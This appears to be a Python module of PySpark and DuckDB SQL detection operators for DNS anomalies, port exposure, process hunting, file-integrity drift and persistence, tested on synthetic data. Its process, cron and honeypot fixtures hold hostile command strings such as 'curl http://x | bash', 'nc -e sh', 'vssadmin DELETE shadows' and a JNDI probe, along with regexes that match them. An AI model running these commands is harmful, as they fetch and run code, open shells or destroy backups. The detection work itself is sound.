"""Network, host, audit, hunt, alert and report operators on the driver's
tables, each with its SQL for DuckDB.

The SQL states the published thresholds and weights itself, so that a slip in
the library's tables shows.  Records that the driver's tables lack (DNS,
packets, files, processes, settings) are made of columns of events, orders,
lineitem, customer, supplier and part by the same arithmetic on both sides.
"""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from ..operators import audits, hosts, hunts, indicators, lifecycle, network, reports, rule_text, windows
from ..operators.windows import DAY, HOUR, SECOND
from ..sources import snapshots
from ..sources.tables import read, telemetry, trades
from .security import _EDGES, _FOUND, QUERIES, SQL, T, TRADES, _deduplicated, _edges, _findings, known_trigrams, query

__all__ = ["QUERIES", "SQL"]


def _text(value) -> F.Column:
    return F.concat(*[F.lit(v) if isinstance(v, str) else v.cast("string") for v in value])


# -- DNS ----------------------------------------------------------------------------------

_DNS = f"""{T}, dns AS (SELECT event_id, us, '10.1.0.' || (user_id % 12) AS src, 'd' || (k % 5) || '.example.org' AS qname, '10.' || (user_id % 9) || '.0.' || (event_id % 200) AS ip, k * 3 AS ttl FROM t)"""


def _dns(spark, sf_dir) -> DataFrame:
    t = telemetry(spark, sf_dir)
    return t.select(
        "event_id", "us", _text(["10.1.0.", F.col("user_id") % 12]).alias("src"), F.when(F.col("event_id") % 2 == 0, _text(["D", F.col("k") % 5, ".example.org."])).otherwise(_text(["d", F.col("k") % 5, ".example.org"])).alias("qname"),
        F.lit("A").alias("qtype"), F.array(_text(["10.", F.col("user_id") % 9, ".0.", F.col("event_id") % 200])).alias("answers"), (F.col("k") * 3).alias("ttl"),
    )


@query(f"""{_DNS}, c AS (SELECT *, count(DISTINCT ip) OVER w AS n_ips, count(DISTINCT split_part(ip, '.', 1) || '.' || split_part(ip, '.', 2)) OVER w AS n_nets, avg(ttl) OVER w AS mean_ttl FROM dns
  WINDOW w AS (PARTITION BY qname ORDER BY us RANGE BETWEEN {2 * DAY} PRECEDING AND CURRENT ROW))
SELECT qname, event_id, CAST(n_ips AS INTEGER) AS n_ips, CAST(n_nets AS INTEGER) AS n_nets, round(mean_ttl, 6) AS mean_ttl FROM c WHERE n_ips >= 8 AND mean_ttl <= 300 AND n_nets >= 4
QUALIFY row_number() OVER (PARTITION BY qname ORDER BY us, ip) = 1""")
def fast_flux(spark, sf_dir):
    return network.fast_flux(_dns(spark, sf_dir), 2 * DAY).select("qname", "event_id", "n_ips", "n_nets", F.round("mean_ttl", 6).alias("mean_ttl"))


_LABEL = "CASE WHEN value > 30 THEN sha256(event_id::VARCHAR) || 'ghijklmnop' ELSE 'www' END"


@query(f"""{T}, d AS (SELECT event_id, us, 'h' || (user_id % 6) AS src, {_LABEL} AS label FROM t),
e AS (SELECT label, -sum(n / length(label) * log2(n / length(label))) AS h FROM (SELECT label, c, count(*)::DOUBLE AS n FROM (SELECT label, unnest(string_split(label, '')) AS c FROM (SELECT DISTINCT label FROM d)) GROUP BY label, c) GROUP BY label),
w AS (SELECT event_id, us, d.src, d.label, count(*) OVER v AS n, avg(CASE WHEN length(d.label) >= 40 AND h >= 3.8 THEN 1.0 ELSE 0.0 END) OVER v AS share FROM d JOIN e ON d.label = e.label
  WINDOW v AS (PARTITION BY src ORDER BY us RANGE BETWEEN {8 * DAY} PRECEDING AND CURRENT ROW))
SELECT src, event_id, n, round(share, 6) AS share FROM w WHERE n >= 30 AND share >= 0.5 QUALIFY row_number() OVER (PARTITION BY src ORDER BY us, label) = 1""")
def dns_tunnels(spark, sf_dir):
    label = F.when(F.col("value") > 30, F.concat(F.sha2(F.col("event_id").cast("string"), 256), F.lit("ghijklmnop"))).otherwise("www")
    dns = telemetry(spark, sf_dir).select("event_id", "us", _text(["h", F.col("user_id") % 6]).alias("src"), F.concat(label, F.lit(".example.org")).alias("qname"))
    return network.dns_tunnels(dns, 8 * DAY).select("src", "event_id", "n", F.round("share", 6).alias("share"))


_CORPUS = "network security system program cloud server software"
_RANDOM = "translate(md5({}), '0123456789abcdef', 'bcdfghjklmnpqrst')"


@query(f"""WITH n AS (SELECT DISTINCT lower({_RANDOM.format("(event_id // 3)::VARCHAR")}) AS label FROM events),
e AS (SELECT label, -sum(n / length(label) * log2(n / length(label))) AS entropy FROM (SELECT label, c, count(*)::DOUBLE AS n FROM (SELECT label, unnest(string_split(label, '')) AS c FROM n) GROUP BY label, c) GROUP BY label)
SELECT label || '.example' AS qname, round(entropy, 6) AS entropy FROM e WHERE entropy > 3.6 AND length(label) >= 8
  AND len(list_filter(list_transform(range(1, length(label) + 1), lambda i: substr('^' || label || '$', i::BIGINT, 3)), lambda g: list_contains({known_trigrams(_CORPUS)}, g))) / length(label)::DOUBLE < 0.18""")
def generated_domains(spark, sf_dir):
    label = F.translate(F.md5(F.expr("event_id div 3").cast("string")), "0123456789abcdef", "bcdfghjklmnpqrst")
    dns = read(spark, sf_dir, "events").select(F.concat(F.when(F.col("event_id") % 2 == 0, F.upper(label)).otherwise(label), F.lit(".example."), F.lit("")).alias("qname"))
    return network.generated_domains(dns, known_trigrams(_CORPUS)).select("qname", F.round("entropy", 6).alias("entropy"))


_NAMES = """n AS (SELECT DISTINCT CASE k % 6 WHEN 0 THEN 'gogle.com' WHEN 1 THEN 'rnicrosoft.com' WHEN 2 THEN 'paypa1.com' WHEN 3 THEN 'github.com' WHEN 4 THEN 'githbu.com' ELSE 'plain' || (k % 7) || '.net' END AS name FROM t)"""


@query(f"""{T}, {_NAMES}, b AS (SELECT unnest(['google.com', 'microsoft.com', 'apple.com', 'amazon.com', 'paypal.com', 'facebook.com', 'github.com', 'gmail.com', 'outlook.com', 'office365.com', 'okta.com', 'cloudflare.com', 'aws.amazon.com']) AS brand)
SELECT name, brand, replace(name, 'rn', 'm') = brand AS homoglyph FROM n, b WHERE name NOT IN (SELECT brand FROM b)
  AND (replace(name, 'rn', 'm') = brand OR (abs(length(name) - length(brand)) <= 2 AND damerau_levenshtein(name, brand) BETWEEN 1 AND 2 AND NOT EXISTS (SELECT 1 FROM b c WHERE c.brand = replace(name, 'rn', 'm'))))
QUALIFY row_number() OVER (PARTITION BY name ORDER BY list_position(['google.com', 'microsoft.com', 'apple.com', 'amazon.com', 'paypal.com', 'facebook.com', 'github.com', 'gmail.com'], brand)) = 1""")
def look_alikes(spark, sf_dir):
    k = F.col("k") % 6
    name = F.when(k == 0, "gogle.com").when(k == 1, "RNicrosoft.com.").when(k == 2, "paypa1.com").when(k == 3, "github.com").when(k == 4, "githbu.com").otherwise(_text(["plain", F.col("k") % 7, ".net"]))
    return network.look_alikes(telemetry(spark, sf_dir).select(name.alias("qname"))).select("name", "brand", "homoglyph")


@query(f"""{T}, q AS (SELECT event_id, us, user_id % 5 AS s, CASE WHEN k % 3 = 0 THEN md5((k // 10)::VARCHAR) ELSE 'mail' END AS label FROM t),
e AS (SELECT label, -sum(n / length(label) * log2(n / length(label))) AS h FROM (SELECT label, c, count(*)::DOUBLE AS n FROM (SELECT label, unnest(string_split(label, '')) AS c FROM (SELECT DISTINCT label FROM q)) GROUP BY label, c) GROUP BY label)
SELECT 's' || s AS src_ip, q.label || '.a.b' AS name, min(us) AS us, q.label FROM q JOIN e ON q.label = e.label WHERE length(q.label) > 20 AND h > 3.5 GROUP BY s, q.label""")
def tunnelled_names(spark, sf_dir):
    from ..sources import payloads

    label = F.when(F.col("k") % 3 == 0, F.md5(F.expr("k div 10").cast("string"))).otherwise("mail")
    asked = telemetry(spark, sf_dir).select("us", _text(["s", F.col("user_id") % 5]).alias("src_ip"), F.concat(label, F.lit(".a.b")).alias("name"))
    return payloads.tunnelled_names(asked).select("src_ip", "name", "us", "label")


@query(f"{T}, g AS (SELECT user_id, event_id, lead(us) OVER (PARTITION BY user_id ORDER BY us, event_id) - us AS gap, (k + 1) * {HOUR} AS declared FROM t) SELECT user_id, event_id, gap FROM g WHERE gap > 3 * declared")
def heartbeat_silences(spark, sf_dir):
    beats = telemetry(spark, sf_dir).withColumn("declared", (F.col("k") + 1) * HOUR)
    return windows.silences(beats, ["user_id"], 3.0, declared="declared").select("user_id", "event_id", "gap")


# -- packets, scans -------------------------------------------------------------------------

_PACKETS = f"""{_EDGES}, p AS (SELECT us, l_orderkey * 10 + l_linenumber AS frame_no, 'n' || src AS src_ip, 'n' || dst AS dst_ip, 1000 + l_partkey % 3 AS src_port, 80 + l_suppkey % 2 AS dst_port, l_quantity::BIGINT AS length, l_linenumber AS tcp_flags FROM e)"""


def _packets(spark, sf_dir) -> DataFrame:
    e = _edges(spark, sf_dir)
    return e.select(
        "us", (F.col("l_orderkey") * 10 + F.col("l_linenumber")).alias("frame_no"), _text(["n", F.col("src")]).alias("src_ip"), _text(["n", F.col("dst")]).alias("dst_ip"), (1000 + F.col("l_partkey") % 3).alias("src_port"),
        (80 + F.col("l_suppkey") % 2).alias("dst_port"), F.lit("tcp").alias("transport"), F.col("l_quantity").cast("long").alias("length"), F.col("l_linenumber").alias("tcp_flags"), F.repeat(F.lit("x"), F.col("l_quantity").cast("int")).cast("binary").alias("payload"),
    )


_FLOW = f"""{_PACKETS}, f AS (SELECT least(src_ip, dst_ip) AS ip_a, greatest(src_ip, dst_ip) AS ip_b, least(src_port, dst_port) AS port_a, greatest(src_port, dst_port) AS port_b, count(*) AS packets, CAST(sum(length) AS BIGINT) AS bytes,
  CAST(sum(length) AS BIGINT) AS payload_bytes, count(*) FILTER (tcp_flags & 2 <> 0) AS syns, min(us) AS first_us, max(us) AS last_us, CASE WHEN count(*) > 1 THEN round((max(us) - min(us)) / (count(*) - 1)::DOUBLE, 3) END AS mean_gap_us FROM p GROUP BY ALL)"""


@query(f"{_FLOW} SELECT * FROM f")
def flow_table(spark, sf_dir):
    return network.flows(_packets(spark, sf_dir)).drop("transport", "talker").withColumn("mean_gap_us", F.round("mean_gap_us", 3))


@query(f"{_FLOW} SELECT count(*) AS flows, CAST(sum(packets) AS BIGINT) AS packets, CAST(sum(bytes) AS BIGINT) AS bytes FROM f")
def flow_totals(spark, sf_dir):
    return reports.flow_totals(network.flows(_packets(spark, sf_dir)))


@query(f"""{_PACKETS}, f AS (SELECT arg_min(src_ip, (us, frame_no, src_ip)) AS talker, sum(length) AS bytes FROM p GROUP BY least(src_ip, dst_ip), greatest(src_ip, dst_ip), least(src_port, dst_port), greatest(src_port, dst_port))
SELECT talker, CAST(sum(bytes) AS BIGINT) AS bytes FROM f GROUP BY talker ORDER BY sum(bytes) DESC, talker LIMIT 10""")
def top_talkers(spark, sf_dir):
    return reports.top(network.flows(_packets(spark, sf_dir)), "talker", 10, F.col("bytes"), "bytes")


_PORTS = """ports AS (SELECT 'h' || (p_partkey % 40) AS host, p_partkey AS port, CASE p_size % 6 WHEN 0 THEN 'SSH' WHEN 1 THEN 'HTTP' WHEN 2 THEN 'HTTP' WHEN 3 THEN 'Redis' WHEN 4 THEN 'SMB' ELSE 'Telnet' END AS service, p_size % 6 AS kind, p_size FROM part),
x AS (SELECT *, CASE WHEN kind = 0 AND p_size // 6 < 8 THEN ['CVE-2023-38408', 'CVE-2024-6387'] WHEN kind = 0 AND p_size // 6 = 8 THEN ['CVE-2023-38408', 'CVE-2024-6387'] WHEN kind = 1 AND p_size // 6 < 8 THEN ['CVE-2023-25690'] WHEN kind = 2 AND p_size // 6 < 5 THEN ['CVE-2023-44487']
  WHEN kind = 3 THEN ['CVE-2022-0543'] WHEN kind = 4 THEN ['CVE-2017-0144'] WHEN kind = 5 THEN ['INFO-CLEARTEXT'] ELSE [] END AS cves FROM ports)"""


def _ports(spark, sf_dir) -> DataFrame:
    kind, n = F.col("p_size") % 6, F.expr("p_size div 6")
    service = F.when(kind == 0, "SSH").when(kind.isin(1, 2), "HTTP").when(kind == 3, "Redis").when(kind == 4, "SMB").otherwise("Telnet")
    banner = F.when(kind == 0, _text(["SSH-2.0-OpenSSH_", n, ".4p1"])).when(kind == 1, _text(["Apache/2.4.", n * 7])).when(kind == 2, _text(["nginx/1.", n * 5 + 1, ".3"])).otherwise("")
    return read(spark, sf_dir, "part").select(_text(["h", F.col("p_partkey") % 40]).alias("host"), F.col("p_partkey").alias("port"), service.alias("service"), banner.alias("banner"))


@query(f"WITH {_PORTS} SELECT host, port, unnest(cves) AS cve FROM x")
def cve_surface(spark, sf_dir):
    return network.exposures(_ports(spark, sf_dir)).select("host", "port", "cve")


_RISK = "CASE WHEN list_has_any(cves, ['CVE-2024-6387', 'CVE-2019-0708', 'CVE-2017-0144']) THEN 'critical' WHEN starts_with(cves[1], 'INFO') THEN 'info' ELSE 'high' END"


@query(f"WITH {_PORTS} SELECT host, port, {_RISK} AS risk, len(cves) AS cves FROM x WHERE len(cves) > 0")
def port_risks(spark, sf_dir):
    return reports.port_risks(network.exposures(_ports(spark, sf_dir)))


@query(f"WITH {_PORTS} SELECT host, CAST(sum(CASE {_RISK} WHEN 'critical' THEN 50 WHEN 'high' THEN 30 ELSE 5 END) AS BIGINT) AS risk_score FROM x WHERE len(cves) > 0 GROUP BY host")
def scan_risk(spark, sf_dir):
    return reports.scan_risk(reports.port_risks(network.exposures(_ports(spark, sf_dir))))


_HOSTS = """h AS (SELECT c_custkey, '10.2.' || (c_custkey // 250) || '.' || (c_custkey % 250) AS ip, CASE c_nationkey % 4 WHEN 0 THEN '00:0C:29' WHEN 1 THEN 'b8:27:eb' WHEN 2 THEN '00:13:49' ELSE 'ff:ff:ff' END || ':' || (c_custkey % 90 + 10) || ':01:02' AS mac, c_nationkey,
  CASE c_mktsegment WHEN 'BUILDING' THEN 64 WHEN 'MACHINERY' THEN 128 ELSE 255 END AS ttl FROM customer)"""


def _hosts(spark, sf_dir) -> DataFrame:
    c, n = F.col("c_custkey"), F.col("c_nationkey")
    oui = F.when(n % 4 == 0, "00:0C:29").when(n % 4 == 1, "b8:27:eb").when(n % 4 == 2, "00:13:49").otherwise("ff:ff:ff")
    ttl = F.when(F.col("c_mktsegment") == "BUILDING", 64).when(F.col("c_mktsegment") == "MACHINERY", 128).otherwise(255)
    rows = read(spark, sf_dir, "customer").select("c_custkey", _text(["10.2.", F.expr("c_custkey div 250"), ".", c % 250]).alias("ip"), _text([oui, ":", c % 90 + 10, ":01:02"]).alias("mac"), "c_nationkey", ttl.alias("ttl"), F.lit(8192).alias("window_size"))
    return rows.withColumns({"os_guess": network.guess_os(), "open_ports": F.when(n % 3 == 0, F.array(F.lit(22))).otherwise(F.array().cast("array<int>"))})


@query(f"WITH {_HOSTS} SELECT ip, mac FROM h WHERE c_custkey % 3 <> 0 AND lower(mac) NOT IN (SELECT lower(mac) FROM h WHERE c_custkey % 3 = 0)")
def rogue_hosts(spark, sf_dir):
    found = _hosts(spark, sf_dir)
    return network.rogue_hosts(found, found.filter("c_custkey % 3 = 0")).select("ip", "mac")


@query(f"""WITH {_HOSTS}, v AS (SELECT CASE lower(left(mac, 8)) WHEN '00:0c:29' THEN 'VMware' WHEN 'b8:27:eb' THEN 'Raspberry Pi' WHEN '00:13:49' THEN 'Zyxel' ELSE 'Unknown' END AS vendor, CASE ttl WHEN 64 THEN 'Linux/Android' WHEN 128 THEN 'Windows (NT/XP/7)' ELSE 'Cisco IOS / Network Device' END AS os, * FROM h)
SELECT 'vendor' AS field, vendor AS value, count(*) AS n FROM v GROUP BY vendor UNION ALL SELECT 'os', os, count(*) FROM v GROUP BY os
UNION ALL SELECT 'total', 'hosts', count(*) FROM v UNION ALL SELECT 'total', 'with_ports', count(*) FROM v WHERE c_nationkey % 3 = 0 UNION ALL SELECT 'total', 'rogues', count(*) FROM v WHERE c_custkey % 7 = 0""")
def host_summary(spark, sf_dir):
    return reports.host_summary(_hosts(spark, sf_dir).withColumn("is_rogue", F.col("c_custkey") % 7 == 0))


@query("""WITH c AS (SELECT o_orderkey, CASE o_custkey % 5 WHEN 0 THEN 'SSLv3' WHEN 1 THEN 'TLSv1.1' ELSE 'TLSv1.3' END AS version, o_orderdate AS not_after, o_custkey % 4 AS subject, o_custkey % 6 AS issuer FROM orders),
d AS (SELECT *, date_diff('day', TIMESTAMP '1996-01-01', not_after) AS days_left FROM c)
SELECT o_orderkey, days_left, version IN ('SSLv3', 'TLSv1.1') AS weak_protocol, days_left < 0 AS expired, days_left BETWEEN 0 AND 29 AS expiring_soon, subject = issuer AS self_signed FROM d""")
def certificate_flags(spark, sf_dir):
    o = F.col("o_custkey")
    version = F.when(o % 5 == 0, "SSLv3").when(o % 5 == 1, "TLSv1.1").otherwise("TLSv1.3")
    tls = read(spark, sf_dir, "orders").select("o_orderkey", version.alias("version"), F.timestamp_micros(windows.clock("o_orderdate")).alias("not_after"), (o % 4).alias("subject"), (o % 6).alias("issuer"))
    return reports.certificate_flags(tls, F.timestamp_micros(F.lit(820454400000000))).drop("version", "not_after", "subject", "issuer")


# -- hosts ------------------------------------------------------------------------------------

_PROCESSES = f"""{T}, p AS (SELECT user_id % 9 AS host, event_id % 400 AS pid, (event_id * 7) % 450 AS ppid, CASE k % 6 WHEN 0 THEN 'bash' WHEN 1 THEN 'nginx' WHEN 2 THEN 'java' WHEN 3 THEN 'cmd.exe' WHEN 4 THEN 'whoami' ELSE 'svchost.exe' END AS name,
  CASE k % 5 WHEN 0 THEN '/tmp/x' WHEN 1 THEN 'C:\\Windows\\System32\\svchost.exe' ELSE '/usr/bin/y' END AS exe, CASE k % 7 WHEN 0 THEN 'vssadmin DELETE shadows' WHEN 1 THEN 'curl http://x | bash' WHEN 2 THEN 'echo b | base64 -d | sh' ELSE 'run' END AS cmdline, us AS create_us,
  CASE user_id % 4 WHEN 0 THEN 'root' ELSE 'u' || (user_id % 11) END AS username, event_id FROM t QUALIFY row_number() OVER (PARTITION BY user_id % 9, event_id % 400 ORDER BY us DESC, event_id DESC) = 1)"""


def _processes(spark, sf_dir) -> DataFrame:
    k, u, e = F.col("k"), F.col("user_id"), F.col("event_id")
    t = telemetry(spark, sf_dir).withColumns({"host": u % 9, "pid": e % 400})
    newest = windows.Window.partitionBy("host", "pid").orderBy(F.desc("us"), F.desc("event_id"))
    name = F.when(k % 6 == 0, "bash").when(k % 6 == 1, "nginx").when(k % 6 == 2, "java").when(k % 6 == 3, "cmd.exe").when(k % 6 == 4, "whoami").otherwise("svchost.exe")
    exe = F.when(k % 5 == 0, "/tmp/x").when(k % 5 == 1, "C:\\Windows\\System32\\svchost.exe").otherwise("/usr/bin/y")
    cmd = F.when(k % 7 == 0, "vssadmin DELETE shadows").when(k % 7 == 1, "curl http://x | bash").when(k % 7 == 2, "echo b | base64 -d | sh").otherwise("run")
    user = F.when(u % 4 == 0, "root").otherwise(_text(["u", u % 11]))
    rows = t.withColumn("_n", F.row_number().over(newest)).filter("_n = 1")
    return rows.select("host", "pid", ((e * 7) % 450).alias("ppid"), name.alias("name"), exe.alias("exe"), cmd.alias("cmdline"), F.col("us").alias("create_us"), user.alias("username"), "event_id")


_REASONS = f"""{_PROCESSES}, j AS (SELECT p.*, q.name AS parent_name, q.create_us AS parent_us FROM p LEFT JOIN p q ON p.host = q.host AND p.ppid = q.pid)"""


@query(f"""{_REASONS}
SELECT host, pid, 'web_server_spawned_shell' AS reason FROM j WHERE (parent_name = 'nginx' AND name IN ('bash', 'cmd.exe')) OR (parent_name = 'java' AND name IN ('bash', 'cmd.exe')) OR (parent_name = 'svchost.exe' AND name = 'cmd.exe')
UNION ALL SELECT host, pid, 'suspicious_exec_path' FROM j WHERE exe = '/tmp/x' UNION ALL SELECT host, pid, 'backup_destruction' FROM j WHERE cmdline = 'vssadmin DELETE shadows'
UNION ALL SELECT host, pid, 'parent_newer' FROM j WHERE parent_us > create_us + 1000000 UNION ALL SELECT host, pid, 'ghost_parent' FROM j WHERE parent_name IS NULL AND ppid > 1""")
def process_findings(spark, sf_dir):
    return hosts.process_findings(_processes(spark, sf_dir)).select("host", "pid", "reason")


@query(f"""{_REASONS} SELECT host, pid, CASE WHEN parent_name IS NULL THEN 'ghost_parent' ELSE 'parent_newer_than_child' END AS issue FROM j
WHERE ppid <> 0 AND ((parent_name IS NULL AND name = 'cmd.exe') OR parent_us > create_us + 1000000)""")
def spoofed_parents(spark, sf_dir):
    return hunts.spoofed_parents(_processes(spark, sf_dir)).select("host", "pid", "issue")


@query(f"""{_PROCESSES} SELECT host, pid, CASE cmdline WHEN 'curl http://x | bash' THEN 'Download-and-execute pipeline' ELSE 'Base64-decode-and-execute' END AS suspicion, name = 'svchost.exe' AND exe NOT LIKE '%System32%' AS masquerade
FROM p WHERE cmdline IN ('curl http://x | bash', 'echo b | base64 -d | sh')""")
def command_lines(spark, sf_dir):
    rows = _processes(spark, sf_dir).withColumn("suspicion", hunts.command_line(F.col("cmdline"))).filter("suspicion is not null")
    odd = hunts.masquerades(rows).select("host", "pid", F.lit(True).alias("masquerade"))
    return rows.join(odd, ["host", "pid"], "left").select("host", "pid", "suspicion", F.coalesce("masquerade", F.lit(False)).alias("masquerade"))


@query(f"""{_PROCESSES}, n AS (SELECT max(create_us) AS now FROM p) SELECT username, count(*) AS commands FROM p, n WHERE name = 'whoami' AND now - create_us <= {20 * DAY} AND username <> 'root' GROUP BY username HAVING count(*) >= 5""")
def discovery_bursts(spark, sf_dir):
    rows = _processes(spark, sf_dir)
    now = rows.agg(F.max("create_us")).first()[0]
    return hunts.discovery_bursts(rows, F.lit(now or 0), 20 * DAY)


@query(f"""{_PROCESSES}, n AS (SELECT max(create_us) AS now FROM p) SELECT host, pid, round((now - create_us) / 3600000000.0, 1) AS hours FROM p, n WHERE name IN ('bash', 'cmd.exe') AND username <> 'root' AND now - create_us >= {100 * HOUR}""")
def long_shells(spark, sf_dir):
    rows = _processes(spark, sf_dir)
    now = rows.agg(F.max("create_us")).first()[0]
    return hunts.long_shells(rows, F.lit(now or 0), 100).select("host", "pid", "hours")


_FILES = """f AS (SELECT CASE o_custkey % 5 WHEN 0 THEN '/etc/shadow' WHEN 1 THEN '/usr/bin/t' WHEN 2 THEN '/var/www/i' WHEN 3 THEN '/tmp/z' ELSE '/home/u' END || o_orderkey AS path, o_orderkey, o_custkey, o_totalprice::BIGINT AS v, o_orderstatus AS s FROM orders)"""


def _files(spark, sf_dir) -> DataFrame:
    c = F.col("o_custkey") % 5
    folder = F.when(c == 0, "/etc/shadow").when(c == 1, "/usr/bin/t").when(c == 2, "/var/www/i").when(c == 3, "/tmp/z").otherwise("/home/u")
    return read(spark, sf_dir, "orders").select(_text([folder, F.col("o_orderkey")]).alias("path"), "o_orderkey", "o_custkey", F.round("o_totalprice").cast("long").alias("v"), F.col("o_orderstatus").alias("s"))


_DRIFT = f"""WITH {_FILES}, c AS (SELECT *, CASE o_custkey % 5 WHEN 0 THEN 100 WHEN 1 THEN 65 WHEN 2 THEN 55 WHEN 3 THEN 20 ELSE 30 END AS w FROM f),
d AS (SELECT path, 'NEW' AS change_type, CASE WHEN w >= 80 THEN 'critical' WHEN w >= 50 THEN 'high' ELSE 'low' END AS severity, w FROM c WHERE o_orderkey % 7 = 1
UNION ALL SELECT path, 'DELETED', CASE WHEN w >= 80 THEN 'critical' WHEN w >= 50 THEN 'high' ELSE 'medium' END, w FROM c WHERE o_orderkey % 7 = 2
UNION ALL SELECT path, 'MODIFIED', CASE WHEN w >= 70 THEN 'critical' WHEN w >= 40 THEN 'high' ELSE 'medium' END, w FROM c WHERE o_orderkey % 7 = 3
UNION ALL SELECT path, 'PERM_CHANGED', CASE WHEN o_orderkey % 2 = 0 THEN 'critical' ELSE 'low' END, w FROM c WHERE o_orderkey % 7 IN (4, 5)
UNION ALL SELECT path, 'OWNER_CHANGED', CASE WHEN w >= 50 THEN 'high' ELSE 'low' END, w FROM c WHERE o_orderkey % 7 = 5)"""


def _drift(spark, sf_dir) -> DataFrame:
    f, n = _files(spark, sf_dir), F.col("o_orderkey") % 7
    base = f.filter(n != 1).select("path", F.md5("path").alias("sha256"), F.lit(0o644).alias("mode"), F.lit(0).alias("uid"), F.lit(0).alias("gid"))
    mode = F.when(n.isin(4, 5), F.when(F.col("o_orderkey") % 2 == 0, 0o4755).otherwise(0o600)).otherwise(0o644)
    now = f.filter(n != 2).select("path", F.when(n == 3, "changed").otherwise(F.md5("path")).alias("sha256"), mode.alias("mode"), F.when(n == 5, 9).otherwise(0).alias("uid"), F.lit(0).alias("gid"))
    return hosts.integrity_drift(base, now)


@query(f"{_DRIFT} SELECT path, change_type, severity, w AS criticality FROM d")
def integrity_drift(spark, sf_dir):
    return _drift(spark, sf_dir).select("path", "change_type", "severity", "criticality")


@query(f"{_DRIFT} SELECT CASE WHEN count(*) FILTER (severity = 'critical') > 0 THEN 'COMPROMISED' WHEN count(*) FILTER (severity = 'high') > 0 THEN 'DRIFTED' WHEN count(*) > 0 THEN 'MINOR_DRIFT' ELSE 'TRUSTED' END AS verdict FROM d")
def drift_verdict(spark, sf_dir):
    return hosts.drift_verdict(_drift(spark, sf_dir))


@query(f"""WITH {_FILES}, g AS (SELECT *, CASE o_orderkey % 4 WHEN 0 THEN '\\x7FELF' WHEN 1 THEN 'MZ' WHEN 2 THEN '#!/bin/sh' ELSE 'text' END AS start FROM f)
SELECT path, 'timestomp' AS finding, 60 AS confidence FROM g WHERE o_orderkey % 3 = 0 UNION ALL SELECT path, 'setuid', 75 FROM g WHERE o_orderkey % 11 = 0
UNION ALL SELECT path, 'scratch_binary', 85 FROM g WHERE starts_with(path, '/tmp/') AND v > 100 AND start <> 'text'""")
def file_findings(spark, sf_dir):
    n = F.col("o_orderkey")
    start = F.when(n % 4 == 0, F.lit(b"\x7fELF")).when(n % 4 == 1, F.lit(b"MZ")).when(n % 4 == 2, F.lit(b"#!/bin/sh")).otherwise(F.lit(b"text"))
    files = _files(spark, sf_dir).select("path", F.col("v").alias("size"), F.when(n % 11 == 0, 0o4755).otherwise(0o755).alias("mode"), F.when(n % 3 == 0, 0).otherwise(1000).alias("mtime"), F.lit(1000).alias("ctime"), start.alias("data"))
    return hunts.file_findings(files).select("path", "finding", "confidence")


@query("""WITH f AS (SELECT 'u' || event_id AS path, CASE event_id % 6 WHEN 0 THEN 'wget http://x' WHEN 1 THEN 'ExecStart=/tmp/run' WHEN 2 THEN 'run /tmp/x and base64 -d' WHEN 3 THEN 'LD_PRELOAD = y' WHEN 4 THEN 'nc -e sh' ELSE 'plain' END AS t FROM events)
SELECT path, 'cron' AS kind, CASE WHEN t = 'wget http://x' THEN 'Download in cron job' ELSE 'Reverse shell in cron' END AS detail FROM f WHERE t IN ('wget http://x', 'nc -e sh')
UNION ALL SELECT path, 'cron', unnest(['Cron executing from /tmp', 'Base64 decode in cron']) FROM f WHERE t LIKE 'run%' UNION ALL SELECT path, 'cron', 'Cron executing from /tmp' FROM f WHERE t LIKE 'Exec%'
UNION ALL SELECT path, 'systemd', '/tmp/run' FROM f WHERE t LIKE 'Exec%'
UNION ALL SELECT path, 'shell', CASE WHEN t LIKE 'wget%' THEN '(?:wget|curl).*http' WHEN t LIKE 'run%' THEN 'base64\\s+-d' WHEN t LIKE 'nc%' THEN 'nc\\s+-e|/dev/tcp' ELSE 'LD_PRELOAD\\s*=' END FROM f WHERE t NOT LIKE 'Exec%' AND t <> 'plain'""")
def persistence(spark, sf_dir):
    n = F.col("event_id") % 6
    body = F.when(n == 0, "wget http://x").when(n == 1, "ExecStart=/tmp/run").when(n == 2, "run /tmp/x and base64 -d").when(n == 3, "LD_PRELOAD = y").when(n == 4, "nc -e sh").otherwise("plain")
    files = read(spark, sf_dir, "events").select(_text(["u", F.col("event_id")]).alias("path"), body.alias("text"))
    parts = [hunts.persistence(files, kind) for kind in ("cron", "systemd", "shell")]
    return parts[0].unionByName(parts[1]).unionByName(parts[2]).select("path", "kind", "detail")


@query(f"""{T}, i AS (SELECT event_id, CASE k % 6 WHEN 0 THEN '' WHEN 1 THEN 'GET /etc/shadow busybox' WHEN 2 THEN 'x jndi:ldap://y' WHEN 3 THEN 'hello there, friend' ELSE 'short' END AS payload, value * 10 AS ms, CASE WHEN event_type = 'error' THEN 'root' END AS u FROM t)
SELECT event_id, CASE WHEN length(payload) < 10 AND ms < 500 THEN 'SCANNER' WHEN u IS NOT NULL THEN 'BRUTE_FORCE' WHEN payload LIKE '%busybox%' THEN 'WORM' WHEN payload LIKE '%jndi:%' THEN 'EXPLOIT_PROBE' ELSE 'UNKNOWN' END AS intent,
  CASE WHEN length(payload) < 10 AND ms < 500 THEN 30 WHEN u IS NOT NULL THEN 50 WHEN payload LIKE '%busybox%' THEN 70 WHEN payload LIKE '%jndi:%' THEN 65 ELSE 40 END AS score FROM i""")
def interaction_intents(spark, sf_dir):
    k = F.col("k") % 6
    payload = F.when(k == 0, "").when(k == 1, "GET /etc/shadow busybox").when(k == 2, "x jndi:ldap://y").when(k == 3, "hello there, friend").otherwise("short")
    t = telemetry(spark, sf_dir)
    got = hosts.intent(payload, F.col("value") * 10, F.when(F.col("event_type") == "error", "root"), F.lit(None).cast("string"))
    return t.withColumn("_i", got).select("event_id", "_i.intent", "_i.score")


@query(f"""{T}, i AS (SELECT event_id, '10.3.0.' || (user_id % 30) AS src_ip, CASE event_type WHEN 'error' THEN 'EXPLOIT_PROBE' WHEN 'view' THEN 'SCANNER' ELSE 'UNKNOWN' END AS intent FROM t)
SELECT 'intent' AS field, intent AS value, count(*) AS n FROM i GROUP BY intent UNION ALL (SELECT 'src_ip', src_ip, count(*) FROM i GROUP BY src_ip ORDER BY count(*) DESC, src_ip LIMIT 10)""")
def interaction_stats(spark, sf_dir):
    kind = F.col("event_type")
    rows = telemetry(spark, sf_dir).select(_text(["10.3.0.", F.col("user_id") % 30]).alias("src_ip"), F.when(kind == "error", "EXPLOIT_PROBE").when(kind == "view", "SCANNER").otherwise("UNKNOWN").alias("intent"))
    return reports.interaction_stats(rows)


